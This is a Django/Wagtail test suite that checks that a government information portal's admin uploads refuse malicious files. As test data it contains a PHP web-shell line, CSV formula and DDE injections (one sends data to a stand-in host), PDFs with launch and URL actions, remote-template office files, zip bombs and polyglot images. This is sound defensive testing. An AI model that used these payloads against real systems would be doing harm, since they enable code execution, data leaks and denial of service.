"""Upload attacks through the real admin upload views, as an Operator: each is refused with an
Indonesian message and nothing is stored; valid files of every allowed type still upload."""

import html
import io
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from wagtail.models import Collection, UploadedFile

from ppid_pages.models import PPIDDocument, PPIDImage
from tests.test_workflow import member

from . import samples

pytestmark = pytest.mark.django_db

# Indonesian messages (security.uploads, and Django's or Wagtail's own where they answer first).
MARKUP = "berisi kode HTML, SVG, atau skrip"
PROGRAM = "berisi program"
MISMATCH = "Isi berkas tidak sesuai dengan ekstensinya"
PDF_ACTIVE = "PDF ditolak karena berisi JavaScript"
MACROS = "berisi makro atau program sisipan"
NOT_TEXT = "bukan teks biasa"
TOO_BIG = "terlalu besar"
EMPTY = "Berkas yang dikirimkan kosong"
NOT_ALLOWED = "tidak dapat diunggah"
NOT_AN_IMAGE = "Unggah gambar yang valid"
UNSUPPORTED_IMAGE = "Format gambar tidak didukung"
IMAGE_MISMATCH = "Bukan gambar ."

DOCUMENT_ATTACKS = {
    "pdf-header-with-html": ("laporan.pdf", b"%PDF-1.4\n" + samples.HTML_PAGE, MARKUP),
    "pdf-with-javascript": ("formulir.pdf", samples.pdf_with_javascript(), PDF_ACTIVE),
    "pdf-with-escaped-javascript": (
        "formulir2.pdf",
        samples.pdf_with_escaped_javascript(),
        PDF_ACTIVE,
    ),
    "pdf-with-javascript-in-object-stream": (
        "formulir3.pdf",
        samples.pdf_with_javascript_in_object_stream(),
        PDF_ACTIVE,
    ),
    "exe-renamed-pdf": ("laporan.pdf", samples.WINDOWS_EXE, PROGRAM),
    "elf-renamed-txt": ("catatan.txt", samples.LINUX_ELF, PROGRAM),
    "shell-script-renamed-csv": ("data.csv", samples.SHELL_SCRIPT, PROGRAM),
    "html-renamed-docx": ("surat.docx", samples.HTML_PAGE, MARKUP),
    "html-renamed-txt": ("catatan.txt", samples.HTML_PAGE, MARKUP),
    "svg-renamed-pdf": ("gambar.pdf", samples.SVG_WITH_SCRIPT, MARKUP),
    "zip-renamed-xlsx": ("anggaran.xlsx", samples.zip_of({"data.txt": b"angka"}), MISMATCH),
    "docx-renamed-xlsx": ("anggaran.xlsx", samples.docx(), MISMATCH),
    "zip-renamed-odt": ("notulen.odt", samples.zip_of({"content.xml": b"<x/>"}), MISMATCH),
    "docx-with-macros": (
        "surat.docx",
        samples.docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        MACROS,
    ),
    "docx-with-exe-inside": (
        "surat.docx",
        samples.docx(extra={"word/embeddings/setup.exe": samples.WINDOWS_EXE}),
        MACROS,
    ),
    "text-renamed-pdf": ("laporan.pdf", b"Bukan PDF sama sekali.", MISMATCH),
    "binary-renamed-csv": ("data.csv", b"nama,nik\x00\x01\x02\xff", NOT_TEXT),
    "utf16-csv": ("data.csv", "nama,umur\n".encode("utf-16"), NOT_TEXT),
    "svg-document": ("gambar.svg", samples.SVG_WITH_SCRIPT, NOT_ALLOWED),
    "html-document": ("halaman.html", samples.HTML_PAGE, NOT_ALLOWED),
    "exe-document": ("setup.exe", samples.WINDOWS_EXE, NOT_ALLOWED),
    "double-extension": ("laporan.pdf.exe", samples.WINDOWS_EXE, NOT_ALLOWED),
    "empty-pdf": ("kosong.pdf", b"", EMPTY),
}
IMAGE_ATTACKS = {
    "svg-with-script": ("logo.svg", samples.SVG_WITH_SCRIPT, UNSUPPORTED_IMAGE),
    "svg-renamed-png": ("logo.png", samples.SVG_WITH_SCRIPT, IMAGE_MISMATCH),
    "html-renamed-jpg": ("foto.jpg", samples.HTML_PAGE, IMAGE_MISMATCH),  # Willow: "svg"
    "jpeg-html-polyglot": ("foto.jpg", samples.jpeg_html_polyglot(), MARKUP),
    "png-with-html-appended": ("foto.png", samples.png_with_html_appended(), MARKUP),
    "gif-javascript-polyglot": ("foto.gif", samples.GIF_JS_POLYGLOT, NOT_AN_IMAGE),
    "exe-renamed-png": ("foto.png", samples.WINDOWS_EXE, NOT_AN_IMAGE),
    "jpeg-renamed-png": ("foto.png", samples.image("JPEG"), IMAGE_MISMATCH),
    "empty-png": ("kosong.png", b"", EMPTY),
}


@pytest.fixture
def operator(client):
    client.force_login(member("operator", "Operator"))
    return client


def stored_files() -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def post_document(client, name: str, content: bytes):
    return client.post(
        "/admin/documents/add/",
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": 1},
    )


def post_image(client, name: str, content: bytes):
    return client.post(
        "/admin/images/add/",
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": 1},
    )


def form_errors(response) -> str:
    form = response.context["form"]
    return " ".join(str(error) for errors in form.errors.values() for error in errors)


def assert_refused(response, message: str) -> None:
    assert response.status_code == 200, "the form must be shown again with the error"
    assert message in form_errors(response)
    assert message in html.unescape(response.content.decode())  # shown to the Operator
    assert not PPIDDocument.objects.exists()
    assert not PPIDImage.objects.exists()
    assert not UploadedFile.objects.exists()
    assert stored_files() == []


@pytest.mark.parametrize("attack", DOCUMENT_ATTACKS)
def test_document_attacks_are_refused(operator, attack):
    name, content, message = DOCUMENT_ATTACKS[attack]
    assert_refused(post_document(operator, name, content), message)


@pytest.mark.parametrize("attack", IMAGE_ATTACKS)
def test_image_attacks_are_refused(operator, attack):
    name, content, message = IMAGE_ATTACKS[attack]
    assert_refused(post_image(operator, name, content), message)


def test_oversized_uploads_are_refused(operator, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1_000
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 1_000
    big_pdf = samples.pdf_bytes("Laporan kegiatan.")
    assert len(big_pdf) > 1_000
    assert_refused(post_document(operator, "besar.pdf", big_pdf), TOO_BIG)
    big_png = samples.image("PNG", size=(400, 400), compress_level=0)
    assert_refused(post_image(operator, "besar.png", big_png), TOO_BIG)


def test_the_multiple_uploader_refuses_too(operator):
    for url, name, content in [
        ("/admin/documents/multiple/add/", "laporan.pdf", b"%PDF-1.4\n" + samples.HTML_PAGE),
        ("/admin/images/multiple/add/", "foto.jpg", samples.jpeg_html_polyglot()),
    ]:
        response = operator.post(url, {"files[]": SimpleUploadedFile(name, content)})
        answer = response.json()
        assert answer["success"] is False
        assert MARKUP in answer["error_message"]
    assert not PPIDDocument.objects.exists() and not PPIDImage.objects.exists()
    assert not UploadedFile.objects.exists() and stored_files() == []


def test_replacing_a_documents_file_is_checked(operator):
    response = post_document(operator, "laporan.docx", samples.docx())
    assert response.status_code == 302
    document = PPIDDocument.objects.get()
    before = stored_files()
    response = operator.post(
        f"/admin/documents/edit/{document.pk}/",
        {
            "title": "laporan.docx",
            "file": SimpleUploadedFile("laporan.docx", samples.HTML_PAGE),
            "collection": 1,
        },
    )
    assert response.status_code == 200
    assert MARKUP in form_errors(response)
    document.refresh_from_db()
    assert document.file.name.endswith(".docx")
    assert stored_files() == before


@pytest.mark.parametrize("name", samples.VALID_DOCUMENTS)
def test_valid_documents_still_upload(operator, name):
    response = post_document(operator, name, samples.VALID_DOCUMENTS[name])
    assert response.status_code == 302, response.content[:2000]
    assert PPIDDocument.objects.get().file.name.endswith(Path(name).suffix)


@pytest.mark.parametrize("name", samples.VALID_IMAGES)
def test_valid_images_still_upload(operator, name):
    response = post_image(operator, name, samples.VALID_IMAGES[name])
    assert response.status_code == 302, response.content[:2000]
    assert PPIDImage.objects.count() == 1


# Save paths without a form: code, management commands, imports.


def new_document(name: str, content: bytes) -> PPIDDocument:
    return PPIDDocument(
        title=name,
        collection=Collection.get_first_root_node(),
        file=ContentFile(content, name=name),
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("laporan.pdf", b"%PDF-1.4\n" + samples.HTML_PAGE),
        ("laporan.pdf", samples.WINDOWS_EXE),
        ("data.csv", b""),
        ("halaman.html", samples.HTML_PAGE),
    ],
)
def test_saving_a_bad_document_in_code_is_refused(name, content):
    with pytest.raises(ValidationError):
        new_document(name, content).save()
    assert not PPIDDocument.objects.exists()
    assert stored_files() == []


def test_a_file_already_written_by_code_is_removed_when_refused():
    document = new_document("x.pdf", b"")
    document.file.save("laporan.pdf", ContentFile(samples.WINDOWS_EXE), save=False)
    assert len(stored_files()) == 1
    with pytest.raises(ValidationError):
        document.save()
    assert stored_files() == []


def test_document_size_limit_holds_without_a_form(settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1_000
    with pytest.raises(ValidationError) as refused:
        new_document("data.csv", b"a,b\n" * 500).save()
    assert refused.value.code == "upload_too_large"


def test_a_polyglot_image_saved_in_code_is_refused():
    # Animated GIFs keep their bytes (no re-encoding): the comment holds a script.
    image = PPIDImage(
        title="animasi",
        collection=Collection.get_first_root_node(),
        file=ContentFile(samples.animated_gif_with_script_comment(), name="animasi.gif"),
    )
    with pytest.raises(ValidationError) as refused:
        image.save()
    assert refused.value.code == "upload_markup"
    assert not PPIDImage.objects.exists()
    assert stored_files() == []


def test_a_valid_image_saved_in_code_is_accepted():
    image = PPIDImage(
        title="foto",
        collection=Collection.get_first_root_node(),
        file=ContentFile(samples.image("PNG"), name="foto.png"),
    )
    image.save()
    assert PPIDImage.objects.count() == 1


def test_a_large_upload_from_a_temporary_file_is_checked_and_stored_whole(operator):
    """Uploads over 2.5 MB reach the form as temporary files on disk."""
    content = b"Catatan rapat pembahasan anggaran kegiatan.\n" * 70_000
    assert len(content) > settings.FILE_UPLOAD_MAX_MEMORY_SIZE
    response = post_document(operator, "catatan-panjang.txt", content)
    assert response.status_code == 302
    with PPIDDocument.objects.get().file.open("rb") as stored:
        assert stored.read() == content
    refused = post_document(operator, "laporan.pdf", b"%PDF-1.7\n" + content + samples.SCRIPT)
    assert MARKUP in form_errors(refused)


def zip_bomb(main_part: str, megabytes: int = 101) -> bytes:
    """An office file whose one extra part unpacks to `megabytes` of zeros (about 100 KB)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr(main_part, b"<document/>")
        with archive.open("media/nol.bin", "w", force_zip64=True) as part:
            chunk = bytes(1024 * 1024)
            for _ in range(megabytes):
                part.write(chunk)
    return buffer.getvalue()


def zip_with_many_parts(main_part: str, count: int = 5_001) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(main_part, b"<document/>")
        for number in range(count):
            archive.writestr(f"part/{number}.xml", b"")
    return buffer.getvalue()


def raw_pdf(catalog_extra: bytes) -> bytes:
    """A small hand-written PDF whose catalog carries `catalog_extra`."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


ZIP_BOMB = "bom zip"
MORE_DOCUMENT_ATTACKS = {
    "docx-zip-bomb": ("laporan.docx", zip_bomb("word/document.xml"), ZIP_BOMB),
    "xlsx-zip-bomb": ("anggaran.xlsx", zip_bomb("xl/workbook.xml"), ZIP_BOMB),
    "odt-zip-bomb": ("notulen.odt", zip_bomb("content.xml"), ZIP_BOMB),
    "xlsx-with-many-parts": ("anggaran.xlsx", zip_with_many_parts("xl/workbook.xml"), ZIP_BOMB),
    "xlsm-renamed-xlsx": (
        "anggaran.xlsx",
        samples.zip_of({"xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        MACROS,
    ),
    "jar-renamed-docx": (
        "surat.docx",
        samples.zip_of({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe"}),
        MISMATCH,
    ),
    "pdf-with-launch-action": (
        "laporan.pdf",
        raw_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        PDF_ACTIVE,
    ),
    "pdf-with-embedded-file": (
        "laporan.pdf",
        raw_pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec >>] >> >>"),
        PDF_ACTIVE,
    ),
    "html-with-pdf-header-later": (
        "laporan.pdf",
        b"<html><body><script>alert(1)</script>%PDF-1.4</body></html>",
        MARKUP,
    ),
    "javascript-file": ("skrip.js", b"alert(document.cookie)", NOT_ALLOWED),
    "javascript-renamed-txt": ("catatan.txt", b"<script>alert(1)</script>", MARKUP),
    "php-renamed-txt": ("catatan.txt", b"<?php system($_GET['c']); ?>", MARKUP),
    "htaccess": (".htaccess", b"AddType application/x-httpd-php .pdf", NOT_ALLOWED),
    "right-to-left-override-name": ("laporan\u202efdp.exe", samples.WINDOWS_EXE, NOT_ALLOWED),
    "uppercase-exe": ("SETUP.EXE", samples.WINDOWS_EXE, NOT_ALLOWED),
    "html-renamed-csv": ("data.csv", samples.HTML_PAGE, MARKUP),
    "svg-renamed-txt": ("catatan.txt", samples.SVG_WITH_SCRIPT, MARKUP),
}
MORE_IMAGE_ATTACKS = {
    "svg-renamed-jpg": ("foto.jpg", samples.SVG_WITH_SCRIPT, IMAGE_MISMATCH),
    "html-renamed-gif": ("foto.gif", samples.HTML_PAGE, IMAGE_MISMATCH),
    "exe-renamed-jpg": ("foto.jpg", samples.WINDOWS_EXE, NOT_AN_IMAGE),
    "pdf-renamed-png": ("foto.png", raw_pdf(b""), NOT_AN_IMAGE),
    "html-image": ("foto.html", samples.HTML_PAGE, UNSUPPORTED_IMAGE),
    "png-renamed-gif": ("foto.gif", samples.image("PNG"), IMAGE_MISMATCH),
}


PDF_EXTERNAL = "membuka alamat web, mengirim formulir, atau membuka berkas lain"
EXTERNAL_PARTS = "memuat isi dari luar berkas"
CSV_FORMULA = "dijalankan spreadsheet sebagai rumus"
TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/attachedTemplate" Target="http://contoh.invalid/'
    b'template.dotm" TargetMode="External"/></Relationships>'
)
OLE_RELS = TEMPLATE_RELS.replace(b"attachedTemplate", b"oleObject").replace(
    b"http://contoh.invalid/template.dotm", b"file://///10.0.0.9/share/x.bin"
)
HYPERLINK_RELS = TEMPLATE_RELS.replace(b"attachedTemplate", b"hyperlink").replace(
    b"template.dotm", b"laporan.html"
)
ODT_REMOTE_SECTION = (
    b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument'
    b':xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink='
    b'"http://www.w3.org/1999/xlink"><office:body><office:text><text:section text:name="s">'
    b'<text:section-source xlink:href="http://contoh.invalid/isi.odt"/></text:section>'
    b"</office:text></office:body></office:document-content>"
)
EXTERNAL_CONTENT_ATTACKS = {
    "pdf-with-uri-action": (
        "laporan.pdf",
        raw_pdf(b"/OpenAction << /S /URI /URI (http://contoh.invalid/lacak) >>"),
        PDF_EXTERNAL,
    ),
    "pdf-with-submitform": (
        "formulir.pdf",
        raw_pdf(b"/OpenAction << /S /SubmitForm /F (http://contoh.invalid/kirim) >>"),
        PDF_EXTERNAL,
    ),
    "pdf-with-gotor": (
        "laporan.pdf",
        raw_pdf(b"/OpenAction << /S /GoToR /F (\\\\10.0.0.9\\share\\a.pdf) /D [0] >>"),
        PDF_EXTERNAL,
    ),
    "pdf-with-gotoe": (
        "laporan.pdf",
        raw_pdf(b"/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>"),
        PDF_EXTERNAL,
    ),
    "pdf-with-escaped-uri": (
        "laporan.pdf",
        raw_pdf(b"/OpenAction << /S /U#52I /U#52I (http://contoh.invalid/) >>"),
        PDF_EXTERNAL,
    ),
    "docx-remote-template": (
        "surat.docx",
        samples.docx(extra={"word/_rels/settings.xml.rels": TEMPLATE_RELS}),
        EXTERNAL_PARTS,
    ),
    "docx-remote-ole-object": (
        "surat.docx",
        samples.docx(extra={"word/_rels/document.xml.rels": OLE_RELS}),
        EXTERNAL_PARTS,
    ),
    "xlsx-external-workbook-link": (
        "anggaran.xlsx",
        samples.zip_of(
            {"xl/workbook.xml": b"<w/>", "xl/externalLinks/externalLink1.xml": b"<x/>"}
        ),
        EXTERNAL_PARTS,
    ),
    "odt-remote-section": (
        "notulen.odt",
        samples.zip_of(
            {"content.xml": ODT_REMOTE_SECTION},
            first=("mimetype", b"application/vnd.oasis.opendocument.text"),
        ),
        EXTERNAL_PARTS,
    ),
    "csv-formula-equals": ("data.csv", b"nama,nilai\nBudi,=1+1\n", CSV_FORMULA),
    "csv-formula-hyperlink": (
        "data.csv",
        b'nama;tautan\nBudi;=HYPERLINK("http://contoh.invalid/?"&A1)\n',
        CSV_FORMULA,
    ),
    "csv-formula-dde-plus": ("data.csv", b"a,b\n+cmd|' /C calc'!A0,1\n", CSV_FORMULA),
    "csv-formula-minus": ("data.csv", b"a,b\n-2+3+cmd|' /C calc'!A0,1\n", CSV_FORMULA),
    "csv-formula-at": ("data.csv", b"a\t b\n@SUM(1+1)*cmd|' /C calc'!A0\t1\n", CSV_FORMULA),
    "csv-quoted-formula": ("data.csv", b'a,b\n"=1+1",x\n', CSV_FORMULA),
}


@pytest.mark.parametrize("attack", EXTERNAL_CONTENT_ATTACKS)
def test_documents_reaching_outside_the_file_are_refused(operator, attack):
    name, content, message = EXTERNAL_CONTENT_ATTACKS[attack]
    assert_refused(post_document(operator, name, content), message)


@pytest.mark.parametrize(
    "name, content",
    [
        ("anggaran.csv", b"uraian;jumlah\nBelanja pegawai;-1500000\nKontak;+62 274 123456\n"),
        ("surat.docx", samples.docx(extra={"word/_rels/document.xml.rels": HYPERLINK_RELS})),
    ],
)
def test_signed_numbers_and_hyperlinks_still_upload(operator, name, content):
    response = post_document(operator, name, content)
    assert response.status_code == 302, form_errors(response)
    assert PPIDDocument.objects.count() == 1


@pytest.mark.parametrize("attack", MORE_DOCUMENT_ATTACKS)
def test_more_document_attacks_are_refused(operator, attack):
    name, content, message = MORE_DOCUMENT_ATTACKS[attack]
    assert_refused(post_document(operator, name, content), message)


@pytest.mark.parametrize("attack", MORE_IMAGE_ATTACKS)
def test_more_image_attacks_are_refused(operator, attack):
    name, content, message = MORE_IMAGE_ATTACKS[attack]
    assert_refused(post_image(operator, name, content), message)


def test_upload_attack_count():
    total = (
        len(DOCUMENT_ATTACKS)
        + len(IMAGE_ATTACKS)
        + len(MORE_DOCUMENT_ATTACKS)
        + len(MORE_IMAGE_ATTACKS)
        + len(EXTERNAL_CONTENT_ATTACKS)
    )
    print(f"uploads: {total} attack files")
    assert total >= 50
